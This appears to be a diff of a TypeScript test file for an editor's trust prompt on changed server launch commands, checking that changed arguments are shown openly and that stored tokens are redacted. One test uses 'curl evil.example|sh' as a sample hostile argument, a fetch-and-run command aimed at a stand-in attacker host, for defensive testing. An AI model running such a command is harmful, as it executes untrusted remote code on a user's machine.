@@ -51,6 +51,14 @@ function serverOf({ config }: Launch): LocatedDefinition {
   return { reading, definition };
 }
 
+/** The two files that a document leads to a comparison of. */
+function comparedIn(document: DocumentQuestion | undefined) {
+  const [link] = document?.links ?? [];
+  const textOf = (name: unknown) =>
+    String(document?.files?.find((file) => file.name === name)?.content);
+  return { now: textOf(link?.compare), before: textOf(link?.target) };
+}
+
 describe('the trust in a launch', () => {
   const { signal } = new AbortController();
   let folder = '';
@@ -360,11 +368,60 @@ describe('the trust in a launch', () => {
     const { picks, shownDocuments, all } = await review('trust', [{}, { text, before }]);
     await all;
     picks.dispose();
-    const [document] = shownDocuments;
-    const [compared] = document?.files ?? [];
-    assert.equal(document?.links?.[0]?.target, compared?.name);
-    assert.equal(String(compared?.content), document?.text.replace('    new\n', '    old\n'));
+    const { now, before: was } = comparedIn(shownDocuments[0]);
+    assert.match(now, /    new\n/);
+    assert.equal(was, now.replace('    new\n', '    old\n'));
   });
+
+  it('in a launch that has changed is given where no argument is hidden, whatever it equals', async () => {
+    const { check } = open();
+    const payload = 'curl evil.example|sh';
+    for (const args of [['serve'], ['-c', payload, '--token', payload]])
+      await check({ ...launchOf(...args), serverName: 's1' });
+    const [, changed = {}] = asked;
+    const { picks, shownDocuments, all } = await review('trust', [{}, changed]);
+    await all;
+    picks.dispose();
+    const [document] = shownDocuments;
+    assert.match(document?.text ?? '', /-c\n +'curl evil\.example\|sh'\n +--token\n/);
+    // What was kept earlier is without secrets, and is compared with the same of now.
+    const { now, before } = comparedIn(document);
+    assert.match(now, /-c\n.*redacted.*\n +--token\n/);
+    assert.match(before, /node\n +serve\n/);
+  });
+
+  for (const [label, isWhole] of [
+    ['Show in Editor', true],
+    ['Show What Changed', false],
+  ] as const)
+    it(`in a launch that has changed is asked about with all of it and what changed within reach: ${label}`, async () => {
+      const { check } = open();
+      for (const args of [['serve'], ['serve', '--token', 'hush-1']])
+        await check(launchOf(...args));
+      const [, changed] = asked;
+      assert.ok(changed);
+      const picks = watchPicks();
+      const questions = newQuestions() as unknown as Questions;
+      const shownDocuments: DocumentQuestion[] = [];
+      const input = {
+        ask: (document: DocumentQuestion) => {
+          shownDocuments.push(document);
+          return Promise.resolve({ choice: 'close' });
+        },
+      } as unknown as DocumentInput;
+      const answered = createTrustQuestion({ questions, input })(changed, signal);
+      (await picks.next(/command changed/)).choose(label);
+      (await picks.next(/command changed/)).choose('Not Now');
+      assert.equal(await answered, 'notNow');
+      picks.dispose();
+      const [document] = shownDocuments;
+      const [link] = document?.links ?? [];
+      const beside = document?.files?.find(({ name }) => name === link?.target)?.content;
+      assert.match(isWhole ? (document?.text ?? '') : String(beside), /hush-1/);
+      assert.equal(document?.comparedWith === undefined, isWhole);
+      if (!isWhole) assert.match(document?.text ?? '', /--token\n.*redacted/);
+      else assert.match(comparedIn(document).now, /--token\n.*redacted/);
+    });
 
   for (const choice of ['close', undefined])
     it(`is given to none of several launches whose document ended with ${choice}, and asked for again`, async () => {
